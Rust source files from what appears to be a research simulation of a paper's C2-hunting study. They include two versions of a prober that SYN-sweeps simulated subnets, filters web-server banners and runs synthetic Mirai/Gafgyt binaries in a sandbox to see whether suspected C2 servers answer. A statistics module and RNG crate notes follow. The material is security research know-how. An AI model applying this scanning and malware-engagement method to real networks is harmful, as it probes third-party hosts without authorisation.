/// Probing configuration.
#[derive(Debug, Clone)]
pub struct ProbeConfig {
    /// Subnets to sweep.
    pub subnets: Vec<Prefix>,
    /// Ports to sweep (Table 5).
    pub ports: Vec<u16>,
    /// First study day of the window.
    pub start_day: u32,
    /// Total probing rounds (paper: 14 days × 6 = 84).
    pub rounds: u32,
    /// Rounds per day (paper: 6, i.e. a 4-hour cadence).
    pub rounds_per_day: u32,
    /// Seconds each weaponized engagement probe runs.
    pub engage_secs: u64,
    /// Sweep the full /24 (254 hosts) or only the first N addresses
    /// (tests use a small N; the methodology is identical).
    pub hosts_per_subnet: u32,
    /// Bounded SYN re-probes (with linear backoff) for hosts that did
    /// not answer the first sweep, before declaring them non-listening.
    /// Defaults to `2`: a single-SYN discovery (`0`) reads every
    /// transiently lost packet as "nobody listening", the same false
    /// C2-death bug the pipeline's liveness sweep had.
    pub syn_retries: u32,
    /// Worker threads for the per-day round fan-out. `1` (the default)
    /// keeps the fully sequential path; larger values run a day's
    /// rounds concurrently on detached networks and merge their
    /// discoveries in round order — byte-identical at every width
    /// (enforced by the parallel-determinism suite).
    pub parallelism: usize,
    /// Run weaponized engagement guests on the block-cached interpreter
    /// (default) or the legacy stepping oracle. Bit-exact either way.
    pub block_engine: bool,
}

impl ProbeConfig {
    /// The paper's configuration over a world's probing theatre.
    pub fn from_world(world: &World) -> Self {
        ProbeConfig {
            subnets: world.probe_subnets.clone(),
            ports: malnet_botgen::world::PROBE_PORTS.to_vec(),
            start_day: world.probe_start_day,
            rounds: 84,
            rounds_per_day: 6,
            engage_secs: 25,
            hosts_per_subnet: 254,
            syn_retries: 2,
            parallelism: 1,
            block_engine: true,
        }
    }
}

/// One probing round's outcome, as plain data.
///
/// A round is a pure function of `(world, weapons, cfg, seed, round,
/// banner snapshot)` — it runs on a detached per-round network with
/// private RNG and responsiveness chains — so rounds of the same day can
/// execute on any thread in any order and [`merge_round_results`]
/// restores the canonical result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RoundResult {
    /// Which round (0-based across the whole window) this is.
    pub round: u32,
    /// Per surviving listener, in sweep (subnet, ip, port) order:
    /// did the weaponized engagement get a protocol answer?
    pub engagements: Vec<((Ipv4Addr, u16), bool)>,
    /// Listeners this round dropped for greeting with a benign banner;
    /// later days skip them.
    pub banner_filtered: Vec<(Ipv4Addr, u16)>,
}

/// Merge per-round results into the discovered-C2 list, restoring the
/// canonical `(round, subnet, ip, port)` order regardless of the order
/// the rounds finished (or arrive) in. Servers that engaged at least
/// once are the discovered C2s.
///
/// Permutation-invariant by construction — rounds are sorted by round
/// number and each round's engagements are already in sweep order —
/// which the merge-permutation proptest exercises directly.
pub fn merge_round_results(mut rounds: Vec<RoundResult>) -> Vec<ProbedC2> {
    rounds.sort_by_key(|r| r.round);
    // (ip, port) → probe outcomes.
    let mut results: BTreeMap<(Ipv4Addr, u16), Vec<(u32, bool)>> = BTreeMap::new();
    for r in rounds {
        for ((ip, port), engaged) in r.engagements {
            results
                .entry((ip, port))
                .or_default()
                .push((r.round, engaged));
        }
    }
    results
        .into_iter()
        .filter(|(_, probes)| probes.iter().any(|(_, e)| *e))
        .map(|((ip, port), probes)| ProbedC2 { ip, port, probes })
        .collect()
}

/// Everything a probe round needs besides its round number — bundled so
/// the fan-out closure stays readable.
struct RoundCtx<'a> {
    world: &'a World,
    weapons: &'a [Vec<u8>],
    cfg: &'a ProbeConfig,
    seed: u64,
    tel: &'a Telemetry,
    /// Coordinator span the round spans re-attach under.
    parent: SpanCtx,
}

/// Run the probing study. `weapons` are the malware binaries used for
/// engagement probes (paper: one Mirai and one Gafgyt sample), tried in
/// rotation. Probe counts land in `tel` (`prober.probes_sent`,
/// `prober.listeners_found`, `prober.engagements`); pass
/// [`Telemetry::disabled`] to opt out.
///
/// Rounds are grouped by study day: the banner-filter set crosses *day*
/// boundaries (each day's sweep skips everything filtered on earlier
/// days), while the rounds inside one day are independent given that
/// snapshot and fan out over `cfg.parallelism` workers, each on its own
/// detached network. Their discoveries merge in round order
/// ([`merge_round_results`]), so every width yields identical bytes.
pub fn run_probing(
    world: &World,
    weapons: &[Vec<u8>],
    cfg: &ProbeConfig,
    seed: u64,
    tel: &Telemetry,
) -> Vec<ProbedC2> {
    assert!(!weapons.is_empty(), "need at least one weaponized sample");
    let ctx = RoundCtx {
        world,
        weapons,
        cfg,
        seed,
        tel,
        parent: tel.current_span(),
    };
    let mut banner_filtered: BTreeSet<(Ipv4Addr, u16)> = BTreeSet::new();
    let mut round_results: Vec<RoundResult> = Vec::new();
    let mut round = 0u32;
    while round < cfg.rounds {
        let day_end = cfg
            .rounds
            .min((round / cfg.rounds_per_day + 1) * cfg.rounds_per_day);
        let day_rounds: Vec<u32> = (round..day_end).collect();
        let snapshot = banner_filtered.clone();
        let day_out = crate::par::fan_out(
            day_rounds.len(),
            cfg.parallelism,
            |i| probe_round(&ctx, day_rounds[i], &snapshot),
            // Unreachable short of a harness bug (see `fan_out`).
            |i| RoundResult {
                round: day_rounds[i],
                engagements: Vec::new(),
                banner_filtered: Vec::new(),
            },
        );
        for r in &day_out {
            banner_filtered.extend(r.banner_filtered.iter().copied());
        }
        round_results.extend(day_out);
        // A probing-day milestone for the event stream, emitted after
        // the fan-out joined — every payload field is a deterministic
        // fold of the day's round results.
        tel.event(
            "probe_day",
            None,
            &[
                (
                    "day",
                    EventField::U(u64::from(cfg.start_day + round / cfg.rounds_per_day)),
                ),
                ("rounds_completed", EventField::U(u64::from(day_end))),
                (
                    "banner_filtered",
                    EventField::U(banner_filtered.len() as u64),
                ),
            ],
        );
        round = day_end;
    }
    merge_round_results(round_results)
}

/// One probing round: SYN sweep → banner filter → weaponized
/// engagement, against a detached network private to this round.
fn probe_round(
    ctx: &RoundCtx<'_>,
    round: u32,
    banner_filtered: &BTreeSet<(Ipv4Addr, u16)>,
) -> RoundResult {
    let RoundCtx {
        world,
        weapons,
        cfg,
        seed,
        tel,
        parent,
    } = ctx;
    let _round_span = tel.span_under("prober.round", parent);
    let day = cfg.start_day + round / cfg.rounds_per_day;
    let secs_into_day =
        u64::from(round % cfg.rounds_per_day) * 86_400 / u64::from(cfg.rounds_per_day);
    let (mut net, _logs) = world.network_for_day_detached(
        day,
        sub_seed(seed ^ DOMAIN_ROUND_NET, day, u64::from(round)),
    );
    net.run_until(SimTime::from_day(day, secs_into_day));
    net.add_external_host(PROBER_IP);

    // --- step 1: listener discovery (batched SYN sweep, with
    // bounded re-probes for unanswered hosts) ---
    let mut pending: Vec<(Ipv4Addr, u16)> = Vec::new();
    for subnet in &cfg.subnets {
        for h in 0..cfg.hosts_per_subnet.min(subnet.capacity()) {
            let Some(ip) = subnet.host(h) else { continue };
            for &port in &cfg.ports {
                if banner_filtered.contains(&(ip, port)) {
                    continue;
                }
                pending.push((ip, port));
            }
        }
    }
    let mut listeners: Vec<(Ipv4Addr, u16)> = Vec::new();
    let mut banners: BTreeMap<(Ipv4Addr, u16), Vec<u8>> = BTreeMap::new();
    for attempt in 0..=cfg.syn_retries {
        if pending.is_empty() {
            break;
        }
        let mut socks: BTreeMap<u64, (Ipv4Addr, u16)> = BTreeMap::new();
        for &(ip, port) in &pending {
            let sock = net.ext_tcp_connect(PROBER_IP, ip, port);
            socks.insert(sock.0, (ip, port));
        }
        tel.add("prober.probes_sent", socks.len() as u64);
        if attempt > 0 {
            tel.add("prober.syn_retries", socks.len() as u64);
        }
        net.run_for(SimDuration::from_secs(8 * (u64::from(attempt) + 1)));
        for ev in net.ext_events(PROBER_IP) {
            match ev {
                SockEvent::Connected(s) => {
                    if let Some(&pair) = socks.get(&s.0) {
                        listeners.push(pair);
                    }
                }
                SockEvent::TcpData { sock, data } => {
                    if let Some(&pair) = socks.get(&sock.0) {
                        banners.entry(pair).or_default().extend(data);
                    }
                }
                _ => {}
            }
        }
        // Close everything we opened.
        for &sock_raw in socks.keys() {
            net.ext_tcp_abort(PROBER_IP, malnet_netsim::stack::SockId(sock_raw));
        }
        net.run_for(SimDuration::from_secs(1));
        net.ext_events(PROBER_IP);
        pending.retain(|pair| !listeners.contains(pair));
    }

    // --- step 2: banner filter ---
    let mut newly_filtered: Vec<(Ipv4Addr, u16)> = Vec::new();
    listeners.retain(|pair| {
        if let Some(b) = banners.get(pair) {
            let text = String::from_utf8_lossy(b);
            if text.contains("Apache") || text.contains("nginx") || text.contains("Server:") {
                newly_filtered.push(*pair);
                return false;
            }
        }
        true
    });
    tel.add("prober.listeners_found", listeners.len() as u64);
    net.remove_host(PROBER_IP);

    // --- step 3: weaponized engagement probes ---
    let mut engagements: Vec<((Ipv4Addr, u16), bool)> = Vec::new();
    for (i, &(ip, port)) in listeners.iter().enumerate() {
        // Rotate weapons across listeners *and* rounds so every
        // candidate is probed by both samples over time.
        let elf = &weapons[(i + round as usize) % weapons.len()];
        let mut sb = Sandbox::new(
            net,
            SandboxConfig {
                bot_ip: Ipv4Addr::new(100, 64, 0, 2),
                mode: AnalysisMode::Weaponized { target: (ip, port) },
                handshaker_threshold: None,
                instruction_budget: 50_000_000,
                seed: sub_seed(seed ^ DOMAIN_ENGAGE, round, i as u64),
                block_engine: cfg.block_engine,
                ..SandboxConfig::default()
            },
        );
        let art = sb.execute(elf, SimDuration::from_secs(cfg.engage_secs));
        net = sb.into_network();
        // Engagement: any application payload back from the target.
        let engaged = art.packets().iter().any(|(_, p)| {
            p.src == ip
                && matches!(&p.transport, Transport::Tcp { payload, .. } if !payload.is_empty())
        });
        if engaged {
            tel.add("prober.engagements", 1);
        }
        engagements.push(((ip, port), engaged));
    }
    RoundResult {
        round,
        engagements,
        banner_filtered: newly_filtered,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_botgen::world::{Calibration, WorldConfig};

    /// A reduced probing study: 2 days × 6 rounds over thin subnets.
    #[test]
    fn probing_finds_elusive_c2s_and_filters_banners() {
        let world = World::generate(WorldConfig {
            seed: 77,
            n_samples: 60,
            cal: Calibration::default(),
        });
        // Weapons: compile plain Mirai/Gafgyt probes without exploits.
        let weapons: Vec<Vec<u8>> = [
            malnet_protocols::Family::Mirai,
            malnet_protocols::Family::Gafgyt,
        ]
        .iter()
        .map(|f| {
            let spec = malnet_botgen::spec::BehaviorSpec {
                family: *f,
                c2: vec![(
                    malnet_botgen::spec::C2Endpoint::Ip(Ipv4Addr::new(10, 255, 0, 1)),
                    23,
                )],
                recv_timeout_ms: 8000,
                ..Default::default()
            };
            malnet_botgen::binary::emit_elf(&malnet_botgen::programs::compile(&spec), b"probe")
        })
        .collect();
        let cfg = ProbeConfig {
            rounds: 12,
            rounds_per_day: 6,
            engage_secs: 20,
            hosts_per_subnet: 40, // covers the planted C2s at hosts 10..88
            ..ProbeConfig::from_world(&world)
        };
        let tel = Telemetry::enabled();
        let probed = run_probing(&world, &weapons, &cfg, 1, &tel);
        let report = tel.report();
        assert!(
            report.counter("prober.probes_sent").unwrap_or(0) > 0,
            "probe counter should record the SYN sweep"
        );
        assert_eq!(
            report.span("prober.round").map(|s| s.calls),
            Some(u64::from(cfg.rounds))
        );
        // The elusive C2s respond rarely but more than never: with 12
        // rounds across 7 servers we expect at least a couple found.
        assert!(!probed.is_empty(), "no C2 discovered by probing");
        for p in &probed {
            // Every discovered server sits in a probing subnet on a
            // Table 5 port.
            assert!(world.probe_subnets.iter().any(|s| s.contains(p.ip)));
            assert!(cfg.ports.contains(&p.port));
            assert!(p.responses() >= 1);
            // Elusive: never responds to every probe.
            assert!(p.responses() < p.probes.len(), "{p:?}");
        }
    }
}
