//! The D-PC2 active-probing study (paper §2.3b).
//!
//! Every 4 hours for two weeks, the prober sweeps 6 suspicious /24
//! subnets across the 12 historical ports of Table 5:
//!
//! 1. **Listener discovery** — plain TCP SYN probes ("we do not send
//!    probes if the host does not listen on a port").
//! 2. **Banner filtering** — listeners that greet with a well-known
//!    banner (Apache, nginx) are dropped.
//! 3. **Weaponized engagement** — a real malware binary, MITM-redirected
//!    at the candidate (CnCHunter mode 2), performs the C2 "call-home";
//!    a server that answers the protocol login counts as a responding C2.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use malnet_botgen::world::World;
use malnet_netsim::asdb::Prefix;
use malnet_netsim::stack::SockEvent;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_sandbox::{AnalysisMode, Sandbox, SandboxConfig};
use malnet_telemetry::Telemetry;
use malnet_wire::packet::Transport;

use crate::datasets::ProbedC2;

/// The prober's own vantage address.
pub const PROBER_IP: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 9);

/// Probing configuration.
#[derive(Debug, Clone)]
pub struct ProbeConfig {
    /// Subnets to sweep.
    pub subnets: Vec<Prefix>,
    /// Ports to sweep (Table 5).
    pub ports: Vec<u16>,
    /// First study day of the window.
    pub start_day: u32,
    /// Total probing rounds (paper: 14 days × 6 = 84).
    pub rounds: u32,
    /// Rounds per day (paper: 6, i.e. a 4-hour cadence).
    pub rounds_per_day: u32,
    /// Seconds each weaponized engagement probe runs.
    pub engage_secs: u64,
    /// Sweep the full /24 (254 hosts) or only the first N addresses
    /// (tests use a small N; the methodology is identical).
    pub hosts_per_subnet: u32,
    /// Bounded SYN re-probes (with linear backoff) for hosts that did
    /// not answer the first sweep, before declaring them non-listening.
    /// `0` (the default) keeps the legacy single-SYN discovery; chaos
    /// runs raise it so transient injected loss stops producing false
    /// listener-death verdicts.
    pub syn_retries: u32,
}

impl ProbeConfig {
    /// The paper's configuration over a world's probing theatre.
    pub fn from_world(world: &World) -> Self {
        ProbeConfig {
            subnets: world.probe_subnets.clone(),
            ports: malnet_botgen::world::PROBE_PORTS.to_vec(),
            start_day: world.probe_start_day,
            rounds: 84,
            rounds_per_day: 6,
            engage_secs: 25,
            hosts_per_subnet: 254,
            syn_retries: 0,
        }
    }
}

/// Run the probing study. `weapons` are the malware binaries used for
/// engagement probes (paper: one Mirai and one Gafgyt sample), tried in
/// rotation. Probe counts land in `tel` (`prober.probes_sent`,
/// `prober.listeners_found`, `prober.engagements`); pass
/// [`Telemetry::disabled`] to opt out.
pub fn run_probing(
    world: &World,
    weapons: &[Vec<u8>],
    cfg: &ProbeConfig,
    seed: u64,
    tel: &Telemetry,
) -> Vec<ProbedC2> {
    assert!(!weapons.is_empty(), "need at least one weaponized sample");
    let probes_sent = tel.counter("prober.probes_sent");
    let listeners_found = tel.counter("prober.listeners_found");
    let engagements = tel.counter("prober.engagements");
    let syn_retries = tel.counter("prober.syn_retries");
    // (ip, port) → probe outcomes.
    let mut results: BTreeMap<(Ipv4Addr, u16), Vec<(u32, bool)>> = BTreeMap::new();
    let mut banner_filtered: BTreeSet<(Ipv4Addr, u16)> = BTreeSet::new();

    for round in 0..cfg.rounds {
        let _round_span = tel.span("prober.round");
        let day = cfg.start_day + round / cfg.rounds_per_day;
        let secs_into_day =
            u64::from(round % cfg.rounds_per_day) * 86_400 / u64::from(cfg.rounds_per_day);
        let (mut net, _logs) = world.network_for_day(day, seed ^ u64::from(round) << 8);
        net.run_until(SimTime::from_day(day, secs_into_day));
        net.add_external_host(PROBER_IP);

        // --- step 1: listener discovery (batched SYN sweep, with
        // bounded re-probes for unanswered hosts) ---
        let mut pending: Vec<(Ipv4Addr, u16)> = Vec::new();
        for subnet in &cfg.subnets {
            for h in 0..cfg.hosts_per_subnet.min(subnet.capacity()) {
                let Some(ip) = subnet.host(h) else { continue };
                for &port in &cfg.ports {
                    if banner_filtered.contains(&(ip, port)) {
                        continue;
                    }
                    pending.push((ip, port));
                }
            }
        }
        let mut listeners: Vec<(Ipv4Addr, u16)> = Vec::new();
        let mut banners: BTreeMap<(Ipv4Addr, u16), Vec<u8>> = BTreeMap::new();
        for attempt in 0..=cfg.syn_retries {
            if pending.is_empty() {
                break;
            }
            let mut socks: BTreeMap<u64, (Ipv4Addr, u16)> = BTreeMap::new();
            for &(ip, port) in &pending {
                let sock = net.ext_tcp_connect(PROBER_IP, ip, port);
                socks.insert(sock.0, (ip, port));
            }
            probes_sent.add(socks.len() as u64);
            if attempt > 0 {
                syn_retries.add(socks.len() as u64);
            }
            net.run_for(SimDuration::from_secs(8 * (u64::from(attempt) + 1)));
            for ev in net.ext_events(PROBER_IP) {
                match ev {
                    SockEvent::Connected(s) => {
                        if let Some(&pair) = socks.get(&s.0) {
                            listeners.push(pair);
                        }
                    }
                    SockEvent::TcpData { sock, data } => {
                        if let Some(&pair) = socks.get(&sock.0) {
                            banners.entry(pair).or_default().extend(data);
                        }
                    }
                    _ => {}
                }
            }
            // Close everything we opened.
            for &sock_raw in socks.keys() {
                net.ext_tcp_abort(PROBER_IP, malnet_netsim::stack::SockId(sock_raw));
            }
            net.run_for(SimDuration::from_secs(1));
            net.ext_events(PROBER_IP);
            pending.retain(|pair| !listeners.contains(pair));
        }

        // --- step 2: banner filter ---
        listeners.retain(|pair| {
            if let Some(b) = banners.get(pair) {
                let text = String::from_utf8_lossy(b);
                if text.contains("Apache") || text.contains("nginx") || text.contains("Server:") {
                    banner_filtered.insert(*pair);
                    return false;
                }
            }
            true
        });
        listeners_found.add(listeners.len() as u64);
        net.remove_host(PROBER_IP);

        // --- step 3: weaponized engagement probes ---
        for (i, &(ip, port)) in listeners.iter().enumerate() {
            // Rotate weapons across listeners *and* rounds so every
            // candidate is probed by both samples over time.
            let elf = &weapons[(i + round as usize) % weapons.len()];
            let mut sb = Sandbox::new(
                net,
                SandboxConfig {
                    bot_ip: Ipv4Addr::new(100, 64, 0, 2),
                    mode: AnalysisMode::Weaponized { target: (ip, port) },
                    handshaker_threshold: None,
                    instruction_budget: 50_000_000,
                    seed: seed ^ u64::from(round) << 20 ^ i as u64,
                },
            );
            let art = sb.execute(elf, SimDuration::from_secs(cfg.engage_secs));
            net = sb.into_network();
            // Engagement: any application payload back from the target.
            let engaged = art.packets().iter().any(|(_, p)| {
                p.src == ip
                    && matches!(&p.transport, Transport::Tcp { payload, .. } if !payload.is_empty())
            });
            if engaged {
                engagements.incr();
            }
            results.entry((ip, port)).or_default().push((round, engaged));
        }
    }

    // Servers that engaged at least once are the discovered C2s.
    results
        .into_iter()
        .filter(|(_, probes)| probes.iter().any(|(_, e)| *e))
        .map(|((ip, port), probes)| ProbedC2 { ip, port, probes })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_botgen::world::{Calibration, WorldConfig};

    /// A reduced probing study: 2 days × 6 rounds over thin subnets.
    #[test]
    fn probing_finds_elusive_c2s_and_filters_banners() {
        let world = World::generate(WorldConfig {
            seed: 77,
            n_samples: 60,
            cal: Calibration::default(),
        });
        // Weapons: compile plain Mirai/Gafgyt probes without exploits.
        let weapons: Vec<Vec<u8>> = [malnet_protocols::Family::Mirai, malnet_protocols::Family::Gafgyt]
            .iter()
            .map(|f| {
                let spec = malnet_botgen::spec::BehaviorSpec {
                    family: *f,
                    c2: vec![(
                        malnet_botgen::spec::C2Endpoint::Ip(Ipv4Addr::new(10, 255, 0, 1)),
                        23,
                    )],
                    recv_timeout_ms: 8000,
                    ..Default::default()
                };
                malnet_botgen::binary::emit_elf(
                    &malnet_botgen::programs::compile(&spec),
                    b"probe",
                )
            })
            .collect();
        let cfg = ProbeConfig {
            rounds: 12,
            rounds_per_day: 6,
            engage_secs: 20,
            hosts_per_subnet: 40, // covers the planted C2s at hosts 10..88
            ..ProbeConfig::from_world(&world)
        };
        let tel = Telemetry::enabled();
        let probed = run_probing(&world, &weapons, &cfg, 1, &tel);
        let report = tel.report();
        assert!(
            report.counter("prober.probes_sent").unwrap_or(0) > 0,
            "probe counter should record the SYN sweep"
        );
        assert_eq!(
            report.span("prober.round").map(|s| s.calls),
            Some(u64::from(cfg.rounds))
        );
        // The elusive C2s respond rarely but more than never: with 12
        // rounds across 7 servers we expect at least a couple found.
        assert!(!probed.is_empty(), "no C2 discovered by probing");
        for p in &probed {
            // Every discovered server sits in a probing subnet on a
            // Table 5 port.
            assert!(world.probe_subnets.iter().any(|s| s.contains(p.ip)));
            assert!(cfg.ports.contains(&p.port));
            assert!(p.responses() >= 1);
            // Elusive: never responds to every probe.
            assert!(p.responses() < p.probes.len(), "{p:?}");
        }
    }
}
