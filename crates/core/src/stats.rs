//! Statistics and plain-text rendering for tables and figures.

use std::collections::BTreeMap;
use std::fmt::Write as _;

/// An empirical CDF over integer-valued observations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cdf {
    /// Sorted observations.
    values: Vec<u64>,
}

impl Cdf {
    /// Build from observations.
    pub fn new(mut values: Vec<u64>) -> Self {
        values.sort_unstable();
        Cdf { values }
    }

    /// Number of observations.
    pub fn len(&self) -> usize {
        self.values.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }

    /// Fraction of observations ≤ `x` (0.0 when empty).
    pub fn at(&self, x: u64) -> f64 {
        if self.values.is_empty() {
            return 0.0;
        }
        let n = self.values.partition_point(|&v| v <= x);
        n as f64 / self.values.len() as f64
    }

    /// The q-quantile (0.0..=1.0).
    pub fn quantile(&self, q: f64) -> u64 {
        if self.values.is_empty() {
            return 0;
        }
        let idx = ((self.values.len() as f64 - 1.0) * q.clamp(0.0, 1.0)).round() as usize;
        self.values[idx]
    }

    /// Arithmetic mean.
    pub fn mean(&self) -> f64 {
        if self.values.is_empty() {
            return 0.0;
        }
        self.values.iter().sum::<u64>() as f64 / self.values.len() as f64
    }

    /// Maximum observation.
    pub fn max(&self) -> u64 {
        self.values.last().copied().unwrap_or(0)
    }

    /// Render as "(x, cdf%)" steps at distinct values.
    pub fn render(&self, label: &str) -> String {
        let mut out = format!("CDF of {label} (n={}):\n", self.len());
        let mut distinct: Vec<u64> = self.values.clone();
        distinct.dedup();
        for x in distinct {
            let _ = writeln!(out, "  x <= {:>6}  : {:>6.1}%", x, self.at(x) * 100.0);
        }
        out
    }
}

/// A labelled counting distribution.
#[derive(Debug, Clone, Default)]
pub struct Counter<K: Ord> {
    map: BTreeMap<K, u64>,
}

impl<K: Ord + Clone + std::fmt::Display> Counter<K> {
    /// Empty counter.
    pub fn new() -> Self {
        Counter {
            map: BTreeMap::new(),
        }
    }

    /// Increment a key.
    pub fn add(&mut self, k: K) {
        *self.map.entry(k).or_insert(0) += 1;
    }

    /// Increment a key by `n`.
    pub fn add_n(&mut self, k: K, n: u64) {
        *self.map.entry(k).or_insert(0) += n;
    }

    /// Count for a key.
    pub fn get(&self, k: &K) -> u64 {
        self.map.get(k).copied().unwrap_or(0)
    }

    /// Total of all counts.
    pub fn total(&self) -> u64 {
        self.map.values().sum()
    }

    /// Entries sorted by descending count.
    pub fn sorted(&self) -> Vec<(K, u64)> {
        let mut v: Vec<(K, u64)> = self.map.iter().map(|(k, c)| (k.clone(), *c)).collect();
        v.sort_by_key(|e| std::cmp::Reverse(e.1));
        v
    }

    /// All entries in key order.
    pub fn entries(&self) -> Vec<(K, u64)> {
        self.map.iter().map(|(k, c)| (k.clone(), *c)).collect()
    }

    /// Render a bar chart.
    pub fn render_bars(&self, title: &str) -> String {
        let mut out = format!("{title}\n");
        let max = self.map.values().copied().max().unwrap_or(1).max(1);
        for (k, c) in self.sorted() {
            let bar = "#".repeat(((c * 40) / max) as usize);
            let _ = writeln!(out, "  {k:<24} {c:>6}  {bar}");
        }
        out
    }
}

/// A week × category heatmap (Figure 1 style).
#[derive(Debug, Clone, Default)]
pub struct Heatmap {
    cells: BTreeMap<(String, u32), u64>,
    rows: Vec<String>,
}

impl Heatmap {
    /// Empty heatmap.
    pub fn new() -> Self {
        Self::default()
    }

    /// Increment cell (row, column).
    pub fn add(&mut self, row: &str, col: u32) {
        if !self.rows.iter().any(|r| r == row) {
            self.rows.push(row.to_string());
        }
        *self.cells.entry((row.to_string(), col)).or_insert(0) += 1;
    }

    /// Value at a cell.
    pub fn get(&self, row: &str, col: u32) -> u64 {
        self.cells
            .get(&(row.to_string(), col))
            .copied()
            .unwrap_or(0)
    }

    /// Total per row, descending.
    pub fn row_totals(&self) -> Vec<(String, u64)> {
        let mut totals: BTreeMap<&str, u64> = BTreeMap::new();
        for ((r, _), v) in &self.cells {
            *totals.entry(r.as_str()).or_insert(0) += v;
        }
        let mut v: Vec<(String, u64)> = totals
            .into_iter()
            .map(|(k, c)| (k.to_string(), c))
            .collect();
        v.sort_by_key(|e| std::cmp::Reverse(e.1));
        v
    }

    /// Render with intensity glyphs for columns `1..=cols`, top `n_rows`
    /// rows by total.
    pub fn render(&self, title: &str, cols: u32, n_rows: usize) -> String {
        let glyphs = [' ', '.', ':', '*', 'o', 'O', '@', '#'];
        let mut out = format!("{title}\n");
        let max = self.cells.values().copied().max().unwrap_or(1).max(1);
        for (row, total) in self.row_totals().into_iter().take(n_rows) {
            let mut line = format!("  {row:<24} |");
            for c in 1..=cols {
                let v = self.get(&row, c);
                let idx = if v == 0 {
                    0
                } else {
                    1 + ((v - 1) * (glyphs.len() as u64 - 2) / max) as usize
                };
                line.push(glyphs[idx.min(glyphs.len() - 1)]);
            }
            let _ = writeln!(out, "{line}| total={total}");
        }
        out
    }
}

/// Percentage helper: `part / whole * 100`, 0 for empty denominators.
pub fn pct(part: usize, whole: usize) -> f64 {
    if whole == 0 {
        0.0
    } else {
        part as f64 * 100.0 / whole as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cdf_basics() {
        let c = Cdf::new(vec![1, 1, 1, 1, 2, 4, 10, 10]);
        assert_eq!(c.len(), 8);
        assert!((c.at(1) - 0.5).abs() < 1e-9);
        assert!((c.at(4) - 0.75).abs() < 1e-9);
        assert!((c.at(10) - 1.0).abs() < 1e-9);
        assert_eq!(c.quantile(0.0), 1);
        assert_eq!(c.quantile(1.0), 10);
        assert!((c.mean() - 3.75).abs() < 1e-9);
        assert_eq!(c.max(), 10);
    }

    #[test]
    fn cdf_empty_is_safe() {
        let c = Cdf::new(vec![]);
        assert!(c.is_empty());
        assert_eq!(c.at(5), 0.0);
        assert_eq!(c.quantile(0.5), 0);
        assert_eq!(c.mean(), 0.0);
    }

    #[test]
    fn counter_orders_by_count() {
        let mut c = Counter::new();
        c.add("b");
        c.add("a");
        c.add("a");
        c.add_n("z", 5);
        let sorted = c.sorted();
        assert_eq!(sorted[0], ("z", 5));
        assert_eq!(sorted[1], ("a", 2));
        assert_eq!(c.total(), 8);
        assert_eq!(c.get(&"missing"), 0);
        let bars = c.render_bars("t");
        assert!(bars.contains('z'));
    }

    #[test]
    fn heatmap_cells_and_rendering() {
        let mut h = Heatmap::new();
        h.add("AS1", 1);
        h.add("AS1", 1);
        h.add("AS2", 3);
        assert_eq!(h.get("AS1", 1), 2);
        assert_eq!(h.get("AS1", 2), 0);
        let totals = h.row_totals();
        assert_eq!(totals[0], ("AS1".to_string(), 2));
        let render = h.render("hm", 4, 10);
        assert!(render.contains("AS1"));
        assert!(render.contains("total=2"));
    }

    #[test]
    fn pct_handles_zero() {
        assert_eq!(pct(1, 0), 0.0);
        assert!((pct(3, 4) - 75.0).abs() < 1e-9);
    }

    #[test]
    fn cdf_single_element() {
        let c = Cdf::new(vec![7]);
        assert_eq!(c.len(), 1);
        assert!(!c.is_empty());
        // Every quantile of a singleton is the element itself.
        for q in [0.0, 0.25, 0.5, 0.99, 1.0] {
            assert_eq!(c.quantile(q), 7, "quantile({q})");
        }
        assert_eq!(c.at(6), 0.0);
        assert!((c.at(7) - 1.0).abs() < 1e-9);
        assert!((c.mean() - 7.0).abs() < 1e-9);
        assert_eq!(c.max(), 7);
    }

    #[test]
    fn cdf_all_duplicates() {
        let c = Cdf::new(vec![3; 10]);
        // A constant distribution: the CDF is a single step at the value,
        // and every quantile collapses onto it.
        assert_eq!(c.at(2), 0.0);
        assert!((c.at(3) - 1.0).abs() < 1e-9);
        assert_eq!(c.quantile(0.0), 3);
        assert_eq!(c.quantile(0.5), 3);
        assert_eq!(c.quantile(1.0), 3);
        assert!((c.mean() - 3.0).abs() < 1e-9);
        // The rendering dedups: one step line, not ten.
        let render = c.render("const");
        assert_eq!(render.matches("x <=").count(), 1);
    }

    #[test]
    fn cdf_quantile_clamps_out_of_range() {
        let c = Cdf::new(vec![1, 2, 3]);
        assert_eq!(c.quantile(-0.5), 1);
        assert_eq!(c.quantile(1.5), 3);
    }

    #[test]
    fn cdf_unsorted_input_is_sorted() {
        let c = Cdf::new(vec![9, 1, 5]);
        assert_eq!(c.quantile(0.0), 1);
        assert_eq!(c.quantile(0.5), 5);
        assert_eq!(c.quantile(1.0), 9);
    }

    #[test]
    fn counter_empty_rollups() {
        let c: Counter<&str> = Counter::new();
        assert_eq!(c.total(), 0);
        assert!(c.sorted().is_empty());
        assert!(c.entries().is_empty());
        // render_bars on an empty counter must not divide by zero.
        let bars = c.render_bars("empty");
        assert!(bars.starts_with("empty"));
    }

    #[test]
    fn heatmap_empty_and_single_cell() {
        let h = Heatmap::new();
        assert!(h.row_totals().is_empty());
        assert_eq!(h.render("empty", 4, 10), "empty\n");
        let mut h = Heatmap::new();
        h.add("AS9", 2);
        let totals = h.row_totals();
        assert_eq!(totals, vec![("AS9".to_string(), 1)]);
        assert!(h.render("one", 4, 10).contains("total=1"));
    }
}
