//! Deterministic pseudo-randomness for the whole workspace.
//!
//! This crate is a self-contained, dependency-free stand-in for the
//! subset of the `rand` 0.8 API the simulation uses (`StdRng`,
//! `SeedableRng::seed_from_u64`, `Rng::{gen, gen_bool, gen_range,
//! fill}`, `seq::SliceRandom::shuffle`). The build environment has no
//! network access to crates.io, and — more importantly — the study's
//! reproducibility argument wants a generator whose exact stream is
//! pinned by this repository, not by an external crate version.
//!
//! The generator is xoshiro256** seeded via splitmix64, both public
//! domain algorithms (Blackman & Vigna). Streams are stable across
//! platforms: all operations are wrapping 64-bit integer arithmetic.
//!
